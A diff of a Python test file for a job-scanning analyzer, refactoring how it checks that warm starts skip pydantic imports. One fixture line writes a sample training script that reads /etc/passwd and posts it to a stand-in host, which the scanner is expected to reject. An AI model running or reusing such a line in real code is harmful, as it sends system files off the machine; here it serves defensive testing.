@@ -3,7 +3,6 @@ their pydantic twins built only to validate a document, which they validate as s
 
 from __future__ import annotations
 
-import json
 import os
 import pickle
 import subprocess
@@ -13,33 +12,13 @@ from pathlib import Path
 import pytest
 from conftest import ROOT, run_cli
 from pydantic import ValidationError
+from test_speedsmall32 import _scan
 
 from analyzer import api
 from analyzer.engine import catalogue, rules
 from analyzer.policy import Policy
 
-# The CLI's scan in a fresh interpreter, as `python -m analyzer.commands.cli` runs it; then what of pydantic it
-# imported.
-SCAN = """
-import json, sys
-sys.path.insert(0, {root!r})
-sys.argv = ["jobgate", "scan", "--no-cache", "--format", "json", {target!r}]
-try:
-    import analyzer.commands.cli; analyzer.commands.cli.main()
-except SystemExit:
-    pass
-print()
-print(json.dumps(sorted(m for m in sys.modules if m.split(".")[0] in ("pydantic", "pydantic_core"))))
-"""
-
-
-def _start(target: Path, cache_home: Path) -> tuple[dict, list[str]]:
-    proc = subprocess.run([sys.executable, "-c", SCAN.format(root=str(ROOT), target=str(target))],
-                          capture_output=True, text=True, timeout=300, cwd=cache_home,
-                          env={**os.environ, "XDG_CACHE_HOME": str(cache_home)})
-    report, _, imported = proc.stdout.rstrip("\n").rpartition("\n")
-    assert report, proc.stderr[-3000:]
-    return json.loads(report), json.loads(imported)
+PYDANTIC = ("pydantic", "pydantic_core")
 
 
 def test_a_warm_start_imports_no_pydantic_and_reports_what_the_cold_one_did(tmp_path: Path) -> None:
@@ -47,10 +26,10 @@ def test_a_warm_start_imports_no_pydantic_and_reports_what_the_cold_one_did(tmp_
     job.mkdir()
     (job / "train.py").write_text("import requests\nimport torch\n\nm = torch.load('/data/site/m.pt')\n"
                                   "requests.post('https://x.example', data=open('/etc/passwd').read())\n")
-    cold, cold_imported = _start(job, tmp_path)
-    warm, warm_imported = _start(job, tmp_path)
-    assert "pydantic" in cold_imported  # the first start validated the configuration
-    assert warm_imported == ["pydantic.plugin._loader"]  # cli.py's stand-in loader, nothing of pydantic itself
+    cold, cold_imported = _scan(job, tmp_path, PYDANTIC)
+    warm, warm_imported = _scan(job, tmp_path, PYDANTIC)
+    assert cold_imported == ["pydantic", "pydantic_core"]  # the first start validated the configuration
+    assert warm_imported == []
     assert warm == cold and cold["reports"][0]["decision"] == "reject"
 
 
